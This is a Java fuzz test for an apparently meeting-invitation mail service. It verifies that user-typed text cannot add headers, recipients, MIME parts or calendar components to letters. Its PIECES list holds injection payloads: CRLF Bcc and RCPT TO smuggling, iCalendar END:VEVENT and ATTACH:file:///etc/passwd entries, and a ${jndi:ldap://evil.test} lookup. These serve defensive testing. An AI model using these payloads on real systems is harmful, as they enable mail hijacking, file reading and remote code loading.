package dev.parley.infra.mail;

import static dev.parley.api.Samples.discoveryCall;
import static dev.parley.api.Samples.gus;
import static dev.parley.api.Samples.uuid;
import static dev.parley.infra.mail.MailSamples.at;
import static dev.parley.infra.mail.MailSamples.nineInBerlin;
import static org.assertj.core.api.Assertions.assertThat;

import dev.parley.api.Refused;
import dev.parley.api.Samples;
import dev.parley.api.meeting.Invitee;
import dev.parley.api.meeting.MeetingId;
import dev.parley.api.meeting.MeetingSummary;
import dev.parley.api.notification.Language;
import dev.parley.api.notification.NotificationId;
import dev.parley.api.notification.NotificationKind;
import dev.parley.api.series.Occurrence;
import dev.parley.api.series.RecurrenceRule;
import dev.parley.api.series.SeriesId;
import dev.parley.saga.notification.CalendarEntry;
import dev.parley.saga.notification.CalendarEntry.OneOfSeries;
import dev.parley.saga.notification.CalendarEntry.Standing;
import dev.parley.saga.notification.CalendarEntry.WholeSeries;
import dev.parley.saga.notification.Invitations.Letter;
import dev.parley.saga.notification.Style;
import jakarta.mail.Header;
import jakarta.mail.Multipart;
import jakarta.mail.Part;
import jakarta.mail.internet.MimeMessage;
import java.nio.charset.StandardCharsets;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Optional;
import java.util.Random;
import java.util.stream.IntStream;
import net.fortuna.ical4j.model.Component;
import net.fortuna.ical4j.model.ComponentContainer;
import net.fortuna.ical4j.model.Property;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator.ReplaceUnderscores;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/**
 * Everything that people type, made of what breaks mail and calendars, in every letter: it is refused, or the letter has the
 * same headers, recipients, parts, components and properties as if they had typed something harmless.
 */
@DisplayNameGeneration(ReplaceUnderscores.class)
class InjectionFuzzTest {
    private static final long SEED = Long.getLong("parley.fuzz.seed", 20261123);
    private static final int EACH = Integer.getInteger("parley.fuzz.each", 12);
    private static final SeriesId series = SeriesId.beginningWith(discoveryCall);
    private static final List<String> PIECES = List.of(
            "\r\n",
            "\n",
            "\r",
            "\n ",
            "\r\n\t",
            "\u2028",
            "\u2029",
            "\u0085",
            "\u000b",
            "\u0000",
            "\u001b",
            "\u202e",
            "\ufeff",
            "\ud800",
            "\\n",
            "\\N",
            "\\",
            "\\\\",
            "\"",
            "^n",
            "^'",
            ";",
            ",",
            ":",
            "=",
            "%0d%0a",
            "<",
            ">",
            "=?utf-8?q?=0D=0ABcc:_eve=40evil.test?=",
            "Bcc: eve@evil.test",
            "X-Evil: 1",
            "To: eve@evil.test",
            "Content-Type: text/html",
            "------=_Part_0",
            "--",
            ".",
            "\r\n.\r\n",
            "QUIT",
            "RCPT TO:<eve@evil.test>",
            "ATTENDEE:mailto:eve@evil.test",
            "METHOD:CANCEL",
            "END:VEVENT",
            "END:VCALENDAR",
            "BEGIN:VALARM",
            "BEGIN:VEVENT",
            "UID:2",
            "RRULE:FREQ=SECONDLY",
            "DTSTART;TZID=\"x\":20260101T000000",
            ";TZID=Mars:",
            "ATTACH:file:///etc/passwd",
            "X-ALT-DESC;FMTTYPE=text/html:<b>",
            "mailto:eve@evil.test",
            "\ud83d\ude00",
            "e\u0301\u0301\u0301",
            "{{way}}",
            "{{{host}}}",
            "${jndi:ldap://evil.test}",
            "a",
            " ",
            "\t",
            "李");

    private final ArrivedMail arrivals = new ArrivedMail();
    private final Random random = new Random(SEED);

    private enum Entry {
        SINGLE(CalendarEntry.SINGLE),
        ONE(new OneOfSeries(occurrence("2026-12-15T09:00"))),
        WHOLE(new WholeSeries(
                series,
                RecurrenceRule.parse("FREQ=WEEKLY;BYDAY=TU;COUNT=3"),
                nineInBerlin,
                List.of(LocalDateTime.parse("2026-12-08T09:00")),
                List.of(new Standing(
                        new MeetingId(uuid("third")),
                        occurrence("2026-12-15T09:00"),
                        at("2026-12-16T09:00", "Europe/Berlin", 30),
                        1))));

        private final CalendarEntry entry;

        Entry(CalendarEntry entry) {
            this.entry = entry;
        }
    }

    @AfterEach
    void stop() {
        arrivals.close();
    }

    @ParameterizedTest
    @EnumSource
    void no_text_adds_anything_to_any_letter(NotificationKind kind) throws Exception {
        for (var entry : Entry.values()) {
            var harmless = anatomy(arrive(letter(kind, entry, () -> "harmless")));
            for (var i = 0; i < EACH; i++) {
                var seed = random.nextLong();
                var hostile = letter(kind, entry, textsBy(new Random(seed)));
                assertThat(anatomy(arrive(hostile)))
                        .as("%s, %s, seed %d", kind, entry, seed)
                        .isEqualTo(harmless);
                assertLinesAreShort();
                assertThat(arrivals.heard())
                        .filteredOn(line -> line.startsWith("RCPT"))
                        .containsOnly("RCPT TO:<lena@acme.test>");
            }
        }
    }

    @Test
    void ten_thousand_characters_of_pictures_are_cut_where_a_character_ends() throws Exception {
        var pictures = "😀".repeat(5_000);
        for (var kind : NotificationKind.values()) {
            var mail = arrive(letter(kind, Entry.SINGLE, () -> pictures));
            assertLinesAreShort();
            assertThat(mail.getSubject()).doesNotContain("\ufffd").doesNotContain("?");
        }
    }

    @Test
    void ten_thousand_invitees_are_ten_thousand_lines_and_one_recipient() throws Exception {
        var crowd = IntStream.range(0, 10_000)
                .mapToObj(number -> MailSamples.lead("Guest, " + number, "guest" + number + "@acme.test"))
                .toList();
        var mail = arrive(MailSamples.among(crowd, letter(NotificationKind.INVITATION, Entry.SINGLE, () -> "x")));
        assertLinesAreShort();
        assertThat(mail.getAllRecipients()).hasSize(1);
        assertThat(ArrivedMail.attendees(ArrivedMail.event(ArrivedMail.calendar(mail))))
                .hasSize(10_001)
                .doesNotHaveDuplicates();
    }

    private MimeMessage arrive(Letter letter) throws Exception {
        return arrivals.arrivedFrom(letter);
    }

    /** RFC 5545 §3.1 and RFC 5322 §2.1.1. */
    private void assertLinesAreShort() throws Exception {
        var mail = arrivals.last();
        assertThat(arrivals.lastAsSent().split("\r\n"))
                .allMatch(line -> line.length() <= 998 && line.matches("\\p{ASCII}*"));
        if (!mail.isMimeType("multipart/mixed")) return;
        var document = ArrivedMail.text(ArrivedMail.calendarPart(mail));
        assertThat(document.split("\r\n")).allMatch(line -> line.getBytes(StandardCharsets.UTF_8).length <= 75);
        assertThat(document.replace("\r\n", "")).doesNotContain("\r", "\n", "\ufffd");
    }

    /** Everything about a letter but what it says. */
    private static List<String> anatomy(MimeMessage mail) throws Exception {
        var anatomy = new ArrayList<String>();
        for (var header : Collections.list(mail.getAllHeaders())) anatomy.add(((Header) header).getName());
        for (var recipient : mail.getAllRecipients())
            anatomy.add(recipient.toString().replaceAll(".*<", "<"));
        parts(mail, anatomy);
        if (mail.isMimeType("multipart/mixed")) components(ArrivedMail.calendar(mail), anatomy);
        return anatomy;
    }

    private static void parts(Part part, List<String> anatomy) throws Exception {
        anatomy.add(part.getContentType().split(";")[0]);
        for (var header : Collections.list(part.getAllHeaders())) anatomy.add(((Header) header).getName());
        if (!(part.getContent() instanceof Multipart parts)) return;
        for (var i = 0; i < parts.getCount(); i++) parts(parts.getBodyPart(i), anatomy);
    }

    private static void components(ComponentContainer<? extends Component> container, List<String> anatomy) {
        for (var component : container.getComponentList().getAll()) {
            anatomy.add(component.getName());
            component.getPropertyList().getAll().stream()
                    .filter(property -> !(property.getName().equals("COMMENT")))
                    .map(InjectionFuzzTest::shape)
                    .forEach(anatomy::add);
            if (component instanceof ComponentContainer<?> inner) components(inner, anatomy);
        }
    }

    private static String shape(Property property) {
        var parameters = property.getParameters().stream()
                .map(parameter ->
                        parameter.getName() + (parameter.getName().equals("CN") ? "" : "=" + parameter.getValue()))
                .toList();
        var value = switch (property.getName()) {
            case "SUMMARY", "DESCRIPTION", "LOCATION", "URL" -> "";
            default -> property.getValue();
        };
        return property.getName() + parameters + value;
    }

    private interface Texts {
        String next();
    }

    private static Texts textsBy(Random random) {
        return () -> "x"
                + random.ints(1 + random.nextInt(12), 0, PIECES.size())
                        .mapToObj(PIECES::get)
                        .reduce("", String::concat);
    }

    /** Names are refused where they are given; whatever passes there stands in a letter. */
    private static Invitee named(Texts texts, Invitee who) {
        while (true) {
            try {
                return new Invitee(who.participantId(), texts.next(), who.email(), who.role());
            } catch (Refused e) {
                assertThat(e.refusal().name()).isIn("CONTROL_CHARACTERS", "TOO_LONG", "MISSING");
                if (texts.next().equals(texts.next())) return who; // it never says anything else
            }
        }
    }

    private static Letter letter(NotificationKind kind, Entry entry, Texts texts) {
        var summary =
                new MeetingSummary(texts.next(), List.of(texts.next(), texts.next()), List.of(texts.next()), "test");
        return new Letter(
                NotificationId.of(discoveryCall, kind, Samples.lena.email(), "seq-0"),
                Samples.demo,
                kind,
                named(texts, Samples.lena),
                List.of(named(texts, gus)),
                discoveryCall,
                texts.next(),
                texts.next(),
                nineInBerlin,
                2,
                texts.next(),
                kind == NotificationKind.SUMMARY ? Optional.of(summary) : Optional.empty(),
                Optional.empty(),
                Style.shipped(Language.EN),
                entry.entry);
    }

    private static Occurrence occurrence(String start) {
        return new Occurrence(series, 3, LocalDateTime.parse(start), nineInBerlin.zone());
    }
}
